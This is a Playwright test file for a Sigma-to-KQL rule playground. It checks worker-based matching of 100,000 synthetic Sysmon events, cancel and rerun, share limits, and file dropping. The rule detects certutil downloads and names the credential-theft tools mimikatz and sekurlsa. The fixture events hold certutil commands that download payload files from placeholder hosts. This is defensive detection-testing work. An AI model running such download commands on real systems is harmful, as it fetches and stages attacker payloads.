import { writeFileSync } from 'node:fs';
import { expect, test } from '@playwright/test';
import { kqlText, longTasksSince, openPlayground, pasteInto, watchLongTasks } from './helpers';

/**
 * Large inputs: 100,000 Windows events (about 30 MB) loaded from a file are read, parsed and
 * matched in the worker while the page keeps answering, and dropping a file on the tester loads
 * it.
 */

const eventCount = 100_000;

// The last line has no line break, so that Ctrl+End puts the cursor after `marker.exe`.
const rule = [
	'title: Certutil download',
	'logsource:',
	'    product: windows',
	'    category: process_creation',
	'detection:',
	'    condition: all of selection_* and not keywords',
	'    keywords:',
	"        - 'mimikatz'",
	"        - 'sekurlsa'",
	'    selection_cli:',
	'        CommandLine|contains|all:',
	"            - '-urlcache'",
	"            - 'http'",
	'    selection_img:',
	'        Image|endswith:',
	"            - '\\certutil.exe'",
	'            - marker.exe'
].join('\n');

/**
 * One event in ten matches; one in ten has the matching fields but is a Sysmon process
 * termination (event 5), which the logsource sets aside; the rest miss a selection.
 */
function windowsEvents(count: number): string {
	const lines: string[] = [];
	for (let i = 0; i < count; i++) {
		const kind = i % 10;
		const certutil = kind <= 2;
		const image = certutil
			? 'C:\\Windows\\System32\\certutil.exe'
			: `C:\\Program Files\\Vendor${i % 300}\\agent${i}.exe`;
		const commandLine =
			kind <= 1
				? `certutil.exe -urlcache -split -f http://10.0.${i % 250}.7/payload${i}.bin C:\\Users\\Public\\p${i}.bin`
				: `${certutil ? 'certutil.exe -hashfile' : 'agent.exe --scan'} C:\\Data\\file${i}.dat --verbose`;
		lines.push(
			JSON.stringify({
				Event: {
					System: {
						Provider: { Name: 'Microsoft-Windows-Sysmon' },
						EventID: kind === 1 ? 5 : 1,
						Channel: 'Microsoft-Windows-Sysmon/Operational',
						Computer: `ws${i % 512}.corp.example`,
						TimeCreated: { SystemTime: `2024-05-01T12:${String(i % 60).padStart(2, '0')}:00.000Z` }
					},
					EventData: {
						UtcTime: '2024-05-01 12:00:00.000',
						ProcessId: 4000 + (i % 60000),
						Image: image,
						CommandLine: commandLine,
						CurrentDirectory: 'C:\\Windows\\system32\\',
						User: i % 3 ? 'CORP\\alice' : 'NT AUTHORITY\\SYSTEM',
						ParentImage: 'C:\\Windows\\explorer.exe'
					}
				}
			})
		);
	}
	return lines.join('\n');
}

test.describe('large event files', () => {
	test('100,000 events from a file match in the worker while the page answers', async ({
		page
	}, testInfo) => {
		const file = testInfo.outputPath('windows-events.ndjson');
		const text = windowsEvents(eventCount);
		writeFileSync(file, text);
		expect(text.length).toBeGreaterThan(25_000_000);

		await watchLongTasks(page);
		await openPlayground(page);
		await pasteInto(page, 'sigma-editor', rule);
		await expect(page.getByTestId('kql-output')).toContainText('endswith "marker.exe"');
		// Let the page settle after the paste; long tasks are counted from the file on.
		await page.waitForTimeout(300);
		const loadedAt = await page.evaluate(() => performance.now());
		await page.getByTestId('events-file').setInputFiles(file);

		// The file does not go into the editor: a compact card stands in for it.
		await expect(page.getByTestId('events-file-name')).toHaveText('windows-events.ndjson');
		await expect(page.getByTestId('events-file-size')).toHaveText(
			`${(text.length / 1_000_000).toFixed(1)} MB`
		);
		await expect(page.getByTestId('match-progress')).toBeVisible();
		// Wait, frame by frame, until the worker has parsed the file and is matching.
		await page.waitForFunction(
			() =>
				document.querySelector('[data-testid="match-summary"]')?.textContent?.includes('100,000') &&
				document.querySelector('[data-testid="match-cancel"]') !== null,
			null,
			{ polling: 'raf', timeout: 30_000 }
		);

		// While the worker runs, a keystroke in the rule lands and the KQL follows at once.
		await page.getByTestId('sigma-editor').locator('.cm-content').click();
		await page.keyboard.press('ControlOrMeta+End');
		const typedAt = Date.now();
		await page.keyboard.type('x');
		await page.waitForFunction(
			() =>
				document
					.querySelector('[data-testid="kql-output"]')
					?.textContent?.includes('endswith "marker.exex"'),
			null,
			{ polling: 'raf', timeout: 2_000 }
		);
		const keystrokeMs = Date.now() - typedAt;
		expect(keystrokeMs).toBeLessThan(1_000);
		expect(await kqlText(page)).toContain('TargetProcessName endswith "marker.exex"');

		// The edit restarts matching on the events the worker already parsed; cancel stops it and
		// keeps the verdicts so far.
		await page.getByTestId('match-cancel').click();
		await expect(page.getByTestId('match-cancelled')).toContainText('of 100,000');
		await expect(page.getByTestId('match-progress')).toHaveCount(0);
		const cancelled = (await page.getByTestId('match-cancelled').textContent()) ?? '';
		const cancelledAt = Number(/after ([\d,]+)/.exec(cancelled)![1].replace(/,/g, ''));
		expect(cancelledAt).toBeLessThan(eventCount);

		await page.getByTestId('match-rerun').click();
		await expect(page.getByTestId('matched-count')).toHaveText('10,000', { timeout: 30_000 });
		await expect(page.getByTestId('match-progress')).toHaveCount(0, { timeout: 30_000 });
		await expect(page.getByTestId('match-summary')).toContainText('100,000 events');
		await expect(page.getByTestId('not-matched-count')).toHaveText('90,000');
		await expect(page.getByTestId('excluded-count')).toHaveText('10,000');
		await expect(page.getByTestId('events-file-count')).toHaveText('100,000 events');
		// Only the rows in view are in the page.
		expect(await page.getByTestId('event-result').count()).toBeLessThan(100);
		await expect(page.getByTestId('event-result').nth(1)).toContainText(
			'logsource: Event 5 of channel Microsoft-Windows-Sysmon/Operational is not a process_creation event'
		);

		const matchMs = (await page.getByTestId('match-elapsed').textContent())?.replace(/[^\d]/g, '');
		const tasks = await longTasksSince(page, loadedAt);
		const longest = Math.max(0, ...tasks);
		testInfo.annotations.push({
			type: 'main thread',
			description:
				`longest task ${longest} ms (${tasks.length} over 50 ms); ` +
				`keystroke to KQL ${keystrokeMs} ms`
		});
		console.log(
			`long tasks: ${JSON.stringify(tasks)}; keystroke ${keystrokeMs} ms; last run ${matchMs} ms`
		);
		expect(longest).toBeLessThan(100);

		// Such a file is kept out of share links, and the page says so.
		await page.getByTestId('share-button').click();
		await expect(page.getByTestId('share-note')).toHaveText(
			`Not in the link: windows-events.ndjson (${(text.length / 1_000_000).toFixed(1)} MB) is too large to share.`
		);
		expect((await page.getByTestId('share-link').inputValue()).length).toBeLessThan(2_000);
	});

	test('a file dropped on the tester loads: small ones into the editor, large ones aside', async ({
		page
	}) => {
		await openPlayground(page);
		const small = '{"Image": "C:\\\\Windows\\\\System32\\\\whoami.exe"}\n{"Image": "a"}';
		const drop = async (targetTestId: string, name: string, content: string) => {
			const data = await page.evaluateHandle(
				([fileName, fileText]) => {
					const transfer = new DataTransfer();
					transfer.items.add(new File([fileText], fileName, { type: 'application/json' }));
					return transfer;
				},
				[name, content]
			);
			const target =
				targetTestId === 'events-input'
					? page.getByTestId(targetTestId).locator('.cm-content')
					: page.getByTestId(targetTestId);
			await target.dispatchEvent('dragover', { dataTransfer: data });
			await target.dispatchEvent('drop', { dataTransfer: data });
		};

		// Dropped on the editor itself, the file replaces the text instead of being inserted.
		await drop('events-input', 'two.ndjson', small);
		await expect(page.getByTestId('event-result')).toHaveCount(2);
		await expect(page.getByTestId('match-summary')).toContainText('2 events');
		const lines = await page.getByTestId('events-input').locator('.cm-line').allTextContents();
		expect(lines.join('\n')).toBe(small);

		const large = Array.from({ length: 60_000 }, (_, i) => `{"Image": "tool${i}.exe"}`).join('\n');
		await drop('events-tester', 'large.ndjson', large);
		await expect(page.getByTestId('events-file-name')).toHaveText('large.ndjson');
		await expect(page.getByTestId('events-file-count')).toHaveText('60,000 events');
		await expect(page.getByTestId('events-input')).toBeHidden();
		await page.getByTestId('events-file-preview-button').click();
		await expect(page.getByTestId('events-file-preview')).toContainText('{"Image": "tool0.exe"}');
	});
});
